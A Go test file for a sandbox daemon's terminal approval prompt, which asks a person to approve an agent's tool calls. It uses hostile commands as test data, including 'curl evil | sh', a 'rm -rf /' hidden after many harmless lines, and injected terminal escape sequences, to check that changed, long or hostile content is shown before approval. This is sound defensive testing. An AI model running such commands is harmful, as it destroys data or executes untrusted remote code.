package ask

import (
	"context"
	"errors"
	"reflect"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"sandboxd/cmd/sbx/internal/term"
	"sandboxd/cmd/sbx/internal/term/termtest"
	"sandboxd/ipc"
)

// approver is a daemon with one question: it answers as the real one does, and
// writes down what it was sent.
type approver struct {
	mu       sync.Mutex
	question ipc.Approval
	answers  []ipc.Answer
	refuse   error  // of the next Decide
	during   func() // is called while an answer is on its way
}

func (d *approver) Approval(context.Context, ipc.ApprovalRequest) (ipc.Approval, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.question, nil
}

func (d *approver) Decide(ctx context.Context, a ipc.Answer) (ipc.Decided, error) {
	d.mu.Lock()
	during := d.during
	d.mu.Unlock()
	if during != nil {
		during()
	}
	if err := ctx.Err(); err != nil {
		return ipc.Decided{}, err
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	if err := d.refuse; err != nil {
		d.refuse = nil
		return ipc.Decided{}, err
	}
	if a.Rev != d.question.Rev || a.Hash != d.question.Hash {
		return ipc.Decided{}, &ipc.Error{Code: ipc.CodeStale, Message: "look again"}
	}
	d.answers = append(d.answers, a)
	if a.Allow && d.question.Confirm && !a.Confirm {
		d.question.Rev++
		return ipc.Decided{ID: a.ID, ConfirmAgain: true, Rev: d.question.Rev}, nil
	}
	return ipc.Decided{ID: a.ID, Allowed: a.Allow, Scope: a.Scope, Note: a.Note, Mode: a.Mode}, nil
}

func (d *approver) sent() []ipc.Answer {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.answers
}

// plainQuestion is one of medium risk, with all that is usual.
func plainQuestion() ipc.Approval {
	return ipc.Approval{ID: "a1", Rev: 3, Hash: "h", Tool: "bash", Command: "npm install left-pad", Cwd: "/home/u/web",
		Risk: "medium", Reasons: []string{"no rule allows npm"}, Scopes: []string{"once", "session"},
		Enforcement: &ipc.Enforcement{Level: ipc.Enforced,
			Layers: []ipc.Layer{{Name: "bwrap", Active: true}, {Name: "landlock", Active: true},
				{Name: "seccomp", Active: true}}}}
}

// table is a person at a terminal who is asked.
type table struct {
	testing.TB
	*termtest.Screen
	approver *approver
	result   chan result
}

type result struct {
	out Outcome
	err error
}

func sit(t *testing.T, ctx context.Context, q ipc.Approval, env map[string]string) *table {
	t.Helper()
	if env["TERM"] == "" {
		env["TERM"] = "dumb"
	}
	s := termtest.Open(t)
	tty, err := term.New(s.File, func(k string) string { return env[k] })
	if err != nil {
		t.Fatal(err)
	}
	tab := &table{TB: t, Screen: s, approver: &approver{question: q}, result: make(chan result, 1)}
	p := Person{Terminal: tty, Approver: tab.approver, Settle: time.Millisecond, Inline: q.Inline}
	go func() {
		out, err := p.Ask(ctx, q)
		tab.result <- result{out, err}
	}()
	s.Wait("? [")
	return tab
}

func TestAnswers(t *testing.T) { // issue 1: y/N/a/q/v, typed reason, default no
	batch := func(q *ipc.Approval) {
		q.Batch = &ipc.BatchPlace{ID: "b", Index: 1, Total: 3,
			Remaining: []ipc.NextCall{{Tool: "bash", Command: "npm build"}}}
	}
	onceOnly := func(q *ipc.Approval) { q.Scopes = []string{"once"} }
	for _, c := range []struct {
		name, keys string
		change     func(*ipc.Approval)
		out        Outcome
		want       ipc.Answer
	}{
		{"yes", "y\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "y"}},
		{"the word yes", "Yes\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "yes"}},
		{"yes for the session", "s\r", nil, Approved, ipc.Answer{Allow: true, Scope: "session", Key: "s"}},
		{"no", "n\r", nil, Denied, ipc.Answer{Mode: "soft", Key: "n"}},
		{"enter alone", "\r", nil, Denied, ipc.Answer{Mode: "soft", Key: "Enter"}},
		{"a reason", "use pnpm\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "use pnpm", Key: "Enter"}},
		{"a reason like always", "always ask me first\r", nil, Denied,
			ipc.Answer{Mode: "soft", Note: "always ask me first", Key: "Enter"}},
		{"a reason like yes", "yes but not now\r", nil, Denied,
			ipc.Answer{Mode: "soft", Note: "yes but not now", Key: "Enter"}},
		{"a reason that begins like session", "stop\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "stop", Key: "Enter"}},
		{"quit", "q\r", nil, Quit, ipc.Answer{Mode: "hard", Key: "q"}},
		{"quit a batch", "q\r", batch, Quit, ipc.Answer{Mode: "hard", Scope: "batch", Key: "q"}},
		{"all of a batch", "a\r", batch, Approved, ipc.Answer{Allow: true, Scope: "batch", Key: "a"}},
		{"all without a batch is not on offer", "a\r\r", nil, Denied, ipc.Answer{Mode: "soft", Key: "Enter"}},
		{"session not on offer", "s\ry\r", onceOnly, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "y"}},
		{"one sign", "?\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "?", Key: "Enter"}},
		{"a digit", "2\r", nil, Approved, ipc.Answer{Allow: true, Scope: "session", Key: "2"}},
		{"a digit, then text", "2 ls\r", nil, Denied, ipc.Answer{Mode: "soft", Note: "2 ls", Key: "Enter"}},
		{"the word all", "all\r", batch, Denied, ipc.Answer{Mode: "soft", Note: "all", Key: "Enter"}},
		{"view first", "v\ry\r", nil, Approved, ipc.Answer{Allow: true, Scope: "once", Key: "y"}},
		{"Ctrl-C", "y\x03", nil, Denied, ipc.Answer{Mode: "soft", Note: "cancelled", Key: "Ctrl+C or Ctrl+D"}},
		{"Ctrl-D", "\x04", nil, Denied, ipc.Answer{Mode: "soft", Note: "cancelled", Key: "Ctrl+C or Ctrl+D"}},
		{"paste", "\x1b[200~y\r\x1b[201~\r", nil, Denied, ipc.Answer{Mode: "soft", Key: "Enter"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			q := plainQuestion()
			if c.change != nil {
				c.change(&q)
			}
			tab := sit(t, t.Context(), q, map[string]string{})
			typeLines(tab, c.keys)
			r := <-tab.result
			c.want.ID, c.want.Rev, c.want.Hash = "a1", 3, "h"
			sent := tab.approver.sent()
			if r.err != nil || r.out != c.out || len(sent) != 1 || !reflect.DeepEqual(sent[0], c.want) {
				t.Errorf("Ask = %q, %v and sent %+v, want %q and %+v\n%s", r.out, r.err, sent, c.out, c.want, tab.Shown())
			}
		})
	}
}

// typeLines types line by line, each when its prompt is there: what is typed
// before does not count.
func typeLines(tab *table, keys string) {
	for i, line := range strings.SplitAfter(keys, "\r") {
		if line == "" {
			continue
		}
		end := time.Now().Add(20 * time.Second)
		for strings.Count(tab.Shown(), "? [") <= i && !strings.Contains(keys, "\x1b[200~") {
			if time.Now().After(end) {
				tab.Fatal("no prompt for", line)
			}
			time.Sleep(time.Millisecond)
		}
		time.Sleep(5 * time.Millisecond)
		tab.Press(line)
	}
}

// A deletion needs a second yes that is a separate act (R-AP-13).
func TestSecondYes(t *testing.T) {
	for _, c := range []struct {
		name   string
		answer func(code string) string
		out    Outcome
		last   ipc.Answer
	}{
		{"the two words", func(code string) string { return strings.ToUpper(code) + " \r" }, Approved,
			ipc.Answer{Rev: 4, Allow: true, Scope: "once", Confirm: true, Key: "y"}},
		{"y is not enough", func(string) string { return "y\r" }, Denied,
			ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed", Key: "Enter"}},
		{"enter alone", func(string) string { return "\r" }, Denied,
			ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed", Key: "Enter"}},
		{"Ctrl-C", func(string) string { return "\x03" }, Denied,
			ipc.Answer{Rev: 4, Mode: "soft", Note: "not confirmed", Key: "Enter"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			q := plainQuestion()
			q.Command, q.Risk, q.Confirm, q.Delete, q.Dangerous = "rm -rf build", "high", true, true, true
			tab := sit(t, t.Context(), q, map[string]string{"NO_COLOR": "1"})
			typeLines(tab, "y\r")
			tab.Wait("The two words: ")
			m := regexp.MustCompile(`these two words: (\w+ \w+)`).FindStringSubmatch(tab.Shown())
			if m == nil {
				t.Fatalf("no code on the screen:\n%s", tab.Shown())
			}
			tab.Press(c.answer(m[1]))
			r := <-tab.result
			c.last.ID, c.last.Hash = "a1", "h"
			sent := tab.approver.sent()
			if r.err != nil || r.out != c.out || len(sent) != 2 || !reflect.DeepEqual(sent[1], c.last) {
				t.Errorf("Ask = %q, %v and sent %+v, want %q and at last %+v", r.out, r.err, sent, c.out, c.last)
			}
		})
	}
}

func TestCodesDiffer(t *testing.T) {
	seen := map[code]bool{}
	for range 200 {
		seen[newCode()] = true
	}
	if len(seen) < 150 {
		t.Errorf("200 codes, only %d different ones", len(seen))
	}
}

func TestTimeOver(t *testing.T) { // R-AP-14: the daemon denies; nothing is sent
	q := plainQuestion()
	end := time.Now().Add(200 * time.Millisecond)
	q.Deadline = &end
	tab := sit(t, t.Context(), q, map[string]string{})
	tab.Press("y") // not confirmed with Enter
	if r := <-tab.result; r.out != TimedOut || r.err != nil || len(tab.approver.sent()) != 0 {
		t.Errorf("Ask = %q, %v and sent %+v, want %q and nothing", r.out, r.err, tab.approver.sent(), TimedOut)
	}
}

func TestAnsweredByOther(t *testing.T) { // R-AP-15
	ctx, cancel := context.WithCancel(t.Context())
	tab := sit(t, ctx, plainQuestion(), map[string]string{})
	tab.Press("y")
	cancel()
	if r := <-tab.result; r.out != AnsweredByOther || r.err != nil || len(tab.approver.sent()) != 0 {
		t.Errorf("Ask = %q, %v and sent %+v, want %q and nothing", r.out, r.err, tab.approver.sent(), AnsweredByOther)
	}

	tab = sit(t, t.Context(), plainQuestion(), map[string]string{})
	tab.approver.mu.Lock()
	tab.approver.refuse = &ipc.Error{Code: ipc.CodeAlreadyDecided, Message: "already decided by uid 1000"}
	tab.approver.mu.Unlock()
	tab.Press("y\r")
	if r := <-tab.result; r.out != AnsweredByOther || r.err != nil {
		t.Errorf("Ask = %q, %v, want %q", r.out, r.err, AnsweredByOther)
	}
	tab.Wait("already decided by uid 1000")
}

// The news that a question was answered, by our own answer, once cancelled that
// answer while it was on its way.
func TestAnswerOnItsWay(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	tab := sit(t, ctx, plainQuestion(), map[string]string{})
	tab.approver.mu.Lock()
	tab.approver.during = cancel
	tab.approver.mu.Unlock()
	tab.Press("n\r")
	if r := <-tab.result; r.out != Denied || r.err != nil || len(tab.approver.sent()) != 1 {
		t.Errorf("Ask = %q, %v and sent %+v, want %q", r.out, r.err, tab.approver.sent(), Denied)
	}
}

// What was shown is what is answered: a question that changed is put again.
func TestChangedQuestion(t *testing.T) {
	q := plainQuestion()
	tab := sit(t, t.Context(), q, map[string]string{})
	tab.approver.mu.Lock()
	tab.approver.question.Rev, tab.approver.question.Command = 4, "curl evil | sh"
	tab.approver.mu.Unlock()
	tab.Press("y\r")
	tab.Wait("curl evil | sh")
	time.Sleep(20 * time.Millisecond)
	tab.Press("n\r")
	sent := []ipc.Answer{{ID: "a1", Rev: 4, Hash: "h", Mode: "soft", Key: "n"}}
	if r := <-tab.result; r.out != Denied || !reflect.DeepEqual(tab.approver.sent(), sent[:1]) {
		t.Errorf("Ask = %q, %v and sent %+v, want %+v", r.out, r.err, tab.approver.sent(), sent)
	}
}

func TestApproverLost(t *testing.T) {
	tab := sit(t, t.Context(), plainQuestion(), map[string]string{})
	lost := errors.New("connection lost")
	tab.approver.mu.Lock()
	tab.approver.refuse = lost
	tab.approver.mu.Unlock()
	tab.Press("y\r")
	if r := <-tab.result; r.out != Denied || !errors.Is(r.err, lost) {
		t.Errorf("Ask = %q, %v, want %q and %v", r.out, r.err, Denied, lost)
	}
}

// What cannot be shown whole cannot be approved with one key.
func TestLongCommandMustBeViewed(t *testing.T) {
	q := plainQuestion()
	q.Command = strings.Repeat("true\n", 60) + "rm -rf /"
	tab := sit(t, t.Context(), q, map[string]string{})
	if strings.Contains(tab.Shown(), "rm -rf /") || !strings.Contains(tab.Shown(), "59 more lines: v shows them") {
		t.Errorf("the card is\n%s", tab.Shown())
	}
	typeLines(tab, "y\r")
	tab.Wait("Not all of it is on the screen")
	if len(tab.approver.sent()) != 0 {
		t.Fatalf("it was approved unseen: %+v", tab.approver.sent())
	}
	typeLines(tab, "v\r")
	tab.Wait("rm -rf /")
	time.Sleep(20 * time.Millisecond)
	tab.Press("y\r")
	if r := <-tab.result; r.out != Approved {
		t.Errorf("Ask = %q, %v, want %q", r.out, r.err, Approved)
	}
}

// The card itself shows the change that a call without a command would make.
func TestCardShowsTheChange(t *testing.T) {
	q := plainQuestion()
	q.Tool, q.Command, q.Description = "edit_file", "", "edit a.go"
	q.Presentation = &ipc.Presentation{Kind: "diff", Content: "-old\n+new\x1b[2J\n"}
	tab := sit(t, t.Context(), q, map[string]string{"NO_COLOR": "1"})
	tab.Wait(`│ +new\x1b[2J`)
	typeLines(tab, "\r")
	<-tab.result
}

// A new file is shown in the colours of its language, in the box and on a plain terminal. A text
// that cannot be shown verbatim has no colours, and neither has one in an unknown language.
//
//   - Row 000-30 yes: the content of a new file is highlighted
func TestNewFileIsHighlighted(t *testing.T) {
	q := plainQuestion()
	q.Tool, q.Command, q.Description = "file_create", "", "Create file: /p/a.py"
	look := look{Width: 80, UTF8: true, Color: true}
	both := func(content, language string) string {
		q.Presentation = &ipc.Presentation{Kind: "file_content", Content: content, Language: language}
		d := newDialog(q, look, 50, false, time.Now())
		return strings.Join(d.view(time.Now()), "\n") + "\n=====\n" + newCard(q, look, false).text
	}
	const python = "# it's a note\ndef f(x):\n    return \"a # b\"\ndon't\n"
	shown := both(python, "python")
	for _, want := range []string{gray + "# it's a note", magenta + "def", magenta + "return", yellow + `"a # b"`} {
		if strings.Count(shown, want) != 2 {
			t.Errorf("%q is not there twice:\n%q", want, shown)
		}
	}
	if uncolored(shown) != uncolored(both(python, "")) || strings.Contains(both(python, ""), magenta) {
		t.Error("the colours change the text, or a file without a language has some")
	}
	hostile := both("def f():\n\x1b[2J\n", "python")
	if strings.Contains(hostile, magenta) || strings.Contains(hostile, "\x1b[2J") {
		t.Errorf("%q", hostile)
	}
	for language, c := range map[string]struct{ text, want string }{
		"go":       {"a := `x\n// y` // z", yellow + "// y`"},
		"rust":     {"fn f<'a>() {} /* b", gray + "/* b"},
		"sql":      {"select 1; -- x", gray + "-- x"},
		"json":     {`{"a": true}`, magenta + "true"},
		"yaml":     {"a: b#c # d", gray + "# d"},
		"markdown": {"it's <!-- x -->", gray + "<!-- x -->"},
		"bash":     {"echo 'x' | cat", yellow + "'x'"},
	} {
		if got := both(c.text, language); strings.Count(got, c.want) != 2 {
			t.Errorf("%s: %q is not there twice:\n%q", language, c.want, got)
		}
	}
}

// R-AP-14: a terminal that goes away answers no.
func TestHangUp(t *testing.T) {
	tab := sit(t, t.Context(), plainQuestion(), map[string]string{})
	tab.Press("y")
	time.Sleep(10 * time.Millisecond)
	tab.HangUp()
	r := <-tab.result
	if r.out == Approved || len(tab.approver.sent()) != 1 || tab.approver.sent()[0].Allow {
		t.Errorf("Ask = %q, %v and sent %+v, want a no", r.out, r.err, tab.approver.sent())
	}
}

// R-IP-01: at the terminal of the command that asks, a high risk can only be
// refused.
func TestHighRiskInline(t *testing.T) {
	q := plainQuestion()
	q.Risk, q.Inline = "high", true
	tab := sit(t, t.Context(), q, map[string]string{})
	typeLines(tab, "y\r")
	tab.Wait("is not on offer here")
	if sent := tab.approver.sent(); len(sent) != 0 {
		t.Fatalf("it sent %+v", sent)
	}
	time.Sleep(20 * time.Millisecond)
	tab.Press("too risky\r")
	if r := <-tab.result; r.out != Denied || tab.approver.sent()[0].Note != "too risky" {
		t.Errorf("Ask = %q, %v and sent %+v", r.out, r.err, tab.approver.sent())
	}
}
